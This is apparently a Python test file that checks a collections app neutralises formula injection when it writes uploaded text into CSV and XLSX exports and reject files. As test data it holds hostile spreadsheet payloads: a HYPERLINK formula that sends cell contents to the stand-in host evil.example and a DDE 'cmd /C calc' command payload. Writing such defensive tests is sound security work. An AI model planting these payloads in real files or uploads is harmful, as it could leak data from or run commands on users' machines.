"""Formula injection: text from uploaded files never becomes a live formula in a CSV or XLSX the app writes."""

import csv
import io

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from telecollect.cells import FORMULA_STARTS, csv_text
from telecollect.imports.reader import TableReader
from telecollect.imports.runner import RejectsWriter
from telecollect.reports.export import to_csv, to_xlsx
from telecollect.reports.queries import arrears_by, arrears_columns
from tests.conftest import csrf_token
from tests.helpers import csv_bytes, row, run_import

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@given(st.text(alphabet=st.characters(exclude_categories=["Cc"]) | st.sampled_from("\t\r\n")))
def test_no_csv_text_cell_starts_a_formula_and_the_rest_is_kept(value):
    cell = csv_text(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (value, "'" + value)


def test_control_characters_are_shown_not_written():
    assert csv_text("Siti\x00Aminah\x1b") == "Siti\ufffdAminah\ufffd"
    assert csv_text("baris satu\nbaris dua\tlagi") == "baris satu\nbaris dua\tlagi"


def test_numbers_stay_numbers():
    assert csv_text(-5) == -5 and csv_text(1.5) == 1.5 and csv_text("Koja") == "Koja"


def _seed_hostile_place(db):
    run_import(db, csv_bytes([row(kecamatan=HYPERLINK, kelurahan="@SUM(1+1)")]))


def test_arrears_csv_neutralises_a_place_name(db, client, login, make_user):
    _seed_hostile_place(db)
    login(make_user("supervisor"))
    for by in ("kecamatan", "kelurahan"):
        text = client.get(f"/reports/arrears?by={by}&format=csv").text
        cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells
        assert ("'" + HYPERLINK) in cells or "'@SUM(1+1)" in cells


def test_xlsx_writes_text_as_text_never_a_formula(db):
    _seed_hostile_place(db)
    rows = arrears_by(db.session, "kecamatan")
    data = to_xlsx(rows, arrears_columns("kecamatan"))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert not any(cell.data_type == "f" for cell in cells)
    place = next(cell for cell in cells if cell.value == HYPERLINK)  # the exact name, as text
    assert place.data_type == "s" and place.quotePrefix
    assert any(cell.data_type == "n" for cell in cells)  # amounts stay numbers


def test_to_csv_is_the_same_rule():
    text = to_csv([{"name": "+62 812", "n": -3}], ["name", "n"])
    assert text.splitlines() == ["name,n", "'+62 812,-3"]


def test_rejects_file_neutralises_the_rejected_row(db):
    data = csv_bytes([row(name="=cmd|' /C calc'!A0", card_no="12", address="-2+3")])
    out = io.StringIO()
    reader = TableReader(io.BytesIO(data), "peserta.csv")
    run_import(db, data, rejects=RejectsWriter(out, reader.header), skip_invalid=True)
    lines = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for line in lines for cell in line]
    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_uploaded_rejects_download_is_neutralised(db, client, login, make_user):
    login(make_user("admin"))
    data = csv_bytes([row(name="@SUM(A1:A9)", card_no="12")])
    form = client.get("/participants/import")
    page = client.post(
        "/participants/import",
        data={"csrf_token": csrf_token(form.text), "file": (io.BytesIO(data), "peserta.csv"), "skip_invalid": "1"},
        content_type="multipart/form-data",
    )
    assert page.status_code == 200
    link = page.text.split('href="/participants/imports/')[1].split('"')[0]
    rejects = client.get(f"/participants/imports/{link}").text
    assert "'@SUM(A1:A9)" in rejects and ",@SUM" not in rejects
